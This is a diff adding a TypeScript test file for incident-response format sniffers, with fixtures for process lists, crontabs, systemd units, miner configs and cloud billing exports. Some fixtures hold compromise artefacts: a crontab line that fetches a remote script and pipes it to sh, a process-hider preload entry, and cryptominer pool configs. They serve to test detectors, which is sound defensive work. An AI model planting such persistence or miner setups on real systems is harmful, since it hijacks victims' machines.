@@ -1,0 +1,55 @@
+import { test } from "node:test";
+import assert from "node:assert/strict";
+import { sniffWith } from "../../test-helpers/index.js";
+import type { Source } from "../types.js";
+import { billingSources } from "../billing/index.js";
+import { metricsSources } from "../metrics/index.js";
+import { hostSources } from "./index.js";
+
+const ALL: Source[] = [...hostSources, ...metricsSources, ...billingSources];
+
+/** One small sample per format, in its real shape, with the path it would have when collected. */
+const SAMPLES: { owner: string; path: string; text: string }[] = [
+  { owner: "ps", path: "triage/ps-auxww.txt", text: "USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\nroot           1  0.0  0.1 167744 11520 ?        Ss   Nov19   0:04 /sbin/init splash\n" },
+  { owner: "ps", path: "triage/ps-eo.txt", text: "    PID    PPID USER     %CPU     ELAPSED COMMAND         COMMAND\n      1       0 root      0.0  1-02:03:04 systemd         /sbin/init splash\n" },
+  { owner: "osquery.processes", path: "triage/processes.json", text: '[\n  {"cmdline":"/sbin/init","name":"systemd","on_disk":"1","parent":"0","path":"/usr/lib/systemd/systemd","pid":"1"}\n]\n' },
+  { owner: "osquery.processes", path: "osqueryd.results.log", text: '{"name":"pack_ir_processes","hostIdentifier":"web-01","calendarTime":"Fri Nov 20 03:14:07 2026 UTC","unixTime":1795144447,"epoch":0,"counter":0,"numerics":false,"columns":{"cmdline":"/sbin/init","name":"systemd","parent":"0","path":"/usr/lib/systemd/systemd","pid":"1"},"action":"added"}\n' },
+  { owner: "ecs.ndjson", path: "export.ndjson", text: '{"@timestamp":"2026-11-20T03:14:07.512Z","agent":{"type":"endpoint"},"ecs":{"version":"8.11.0"},"event":{"category":["process"],"dataset":"endpoint.events.process","kind":"event"},"host":{"name":"web-01"},"process":{"name":"xmrig","pid":4242}}\n' },
+  { owner: "linux.crontab", path: "web01/etc/crontab", text: "SHELL=/bin/sh\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n" },
+  { owner: "linux.crontab", path: "web01/var/spool/cron/crontabs/www-data", text: "*/1 * * * * curl -fsSL http://203.0.113.7/x.sh | sh\n" },
+  { owner: "linux.systemd", path: "web01/etc/systemd/system/swapd.service", text: "[Unit]\nDescription=swap\n\n[Service]\nExecStart=/usr/local/bin/swapd\n" },
+  { owner: "linux.ld_so_preload", path: "web01/etc/ld.so.preload", text: "/usr/local/lib/libprocesshider.so\n" },
+  { owner: "miner.config", path: "web01/root/.xmrig/config.json", text: '{\n    "donate-level": 0,\n    "randomx": { "mode": "fast" },\n    "pools": [ { "url": "gulf.moneroocean.stream:10128", "user": "4Wallet", "pass": "x" } ]\n}\n' },
+  { owner: "miner.config", path: "web01/opt/xmr-stak/pools.txt", text: '"pool_list" :\n[\n\t{"pool_address" : "pool.supportxmr.com:5555", "wallet_address" : "4Wallet", "pool_password" : "x", "use_nicehash" : false, "use_tls" : false, "pool_weight" : 1 },\n],\n"currency" : "monero",\n' },
+  { owner: "metrics.csv", path: "cpu.csv", text: "timestamp,host,cpu_pct\n2026-11-20T03:00:00Z,web01,97.8\n" },
+  { owner: "nvidia_smi", path: "gpu.csv", text: "timestamp, name, index, utilization.gpu [%], memory.used [MiB], power.draw [W]\n2026/11/20 03:14:07.512, Tesla T4, 0, 100 %, 2000 MiB, 68.51 W\n" },
+  { owner: "prometheus.query_range", path: "query.json", text: '{"status":"success","data":{"resultType":"matrix","result":[{"metric":{"__name__":"DCGM_FI_DEV_GPU_UTIL","Hostname":"g1"},"values":[[1795144440,"100"]]}]}}' },
+  { owner: "aws.cloudwatch", path: "cw.json", text: '{\n    "Label": "CPUUtilization",\n    "Datapoints": [ { "Timestamp": "2026-11-20T03:10:00+00:00", "Average": 99.6, "Unit": "Percent" } ]\n}\n' },
+  { owner: "aws.cost_explorer", path: "ce.json", text: '{\n    "GroupDefinitions": [],\n    "ResultsByTime": [ { "TimePeriod": { "Start": "2026-11-19", "End": "2026-11-20" }, "Total": { "UnblendedCost": { "Amount": "1", "Unit": "USD" } }, "Groups": [] } ]\n}\n' },
+  { owner: "aws.cur", path: "cur.csv", text: "lineItem/UsageAccountId,lineItem/UsageStartDate,lineItem/UsageType,lineItem/UnblendedCost\n444455556666,2026-11-20T03:00:00Z,BoxUsage:p3.16xlarge,24.48\n" },
+  { owner: "azure.cost_export", path: "azure.csv", text: "Date,SubscriptionId,MeterCategory,MeterSubCategory,ResourceLocation,CostInBillingCurrency,BillingCurrency\n11/20/2026,9f1a2b3c-4d5e-6f70-8192-a3b4c5d6e7f8,Virtual Machines,NCSv3 Series,EastUS,73.44,USD\n" },
+  { owner: "gcp.billing_export", path: "gcp.csv", text: "usage_start_time,usage_end_time,project.id,service.description,sku.description,location.region,cost,currency\n2026-11-20 03:00:00 UTC,2026-11-20 04:00:00 UTC,p1,Compute Engine,Nvidia Tesla V100 GPU running in Americas,us-central1,2.48,USD\n" },
+];
+
+test("every format is claimed by its own source, and by no other source in host/, metrics/, billing/", async () => {
+  const owners = new Set(SAMPLES.map((s) => s.owner));
+  assert.deepEqual([...owners].sort(), ALL.map((s) => s.id).sort(), "a sample for every source");
+  for (const sample of SAMPLES) {
+    const scores = await Promise.all(ALL.map(async (s) => [s.id, await sniffWith(s, sample.text, sample.path)] as const));
+    const own = scores.find(([id]) => id === sample.owner)![1];
+    assert.ok(own >= 0.5, `${sample.owner} scores ${own} on its own sample ${sample.path}`);
+    for (const [id, score] of scores) {
+      if (id === sample.owner) continue;
+      assert.ok(score < own, `${id} scores ${score} on the ${sample.owner} sample (${sample.path}); its owner scores ${own}`);
+      assert.ok(score < 0.5, `${id} should not claim the ${sample.owner} sample (${sample.path}): ${score}`);
+    }
+  }
+});
+
+test("sniffers never throw, whatever the bytes", async () => {
+  const junk = ["", "\u0000\u0001\u0002", "{", "[", "{\"a\":", "\uFEFF", "a,b\n\"", "x".repeat(70000), "[kworker/0:1]"];
+  for (const text of junk) for (const s of ALL) {
+    const score = await sniffWith(s, text, "x");
+    assert.ok(score >= 0 && score <= 1, `${s.id} on ${JSON.stringify(text.slice(0, 10))}`);
+  }
+});
